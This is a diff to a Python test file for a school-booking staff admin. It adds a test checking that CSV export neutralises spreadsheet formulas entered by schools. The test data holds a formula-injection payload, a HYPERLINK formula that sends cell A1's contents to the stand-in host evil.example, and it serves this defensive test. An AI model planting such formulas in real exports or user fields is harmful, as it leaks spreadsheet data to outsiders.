@@ -1,5 +1,6 @@
 """Staff admin: coordinators see and act on their own techniekhuis's bookings only; CSV/XLSX export."""
 
+import csv
 import io
 
 import openpyxl
@@ -341,3 +342,13 @@ def test_saving_a_slot_never_writes_back_stale_booking_counters(houses):
 
     slot.refresh_from_db()
     assert (slot.capacity_classes, slot.booked_classes) == (4, 2)
+
+
+def test_csv_export_neutralises_formulas_in_what_schools_typed(admin_client, houses):
+    booking_at(houses[0], "@SUM(1+1)", contact_name='=HYPERLINK("https://evil.example/?"&A1,"klik")')
+
+    response = admin_client.get(INDEX, {"export": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["Contactpersoon"] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    assert "'@SUM(1+1)" in rows[0].values()
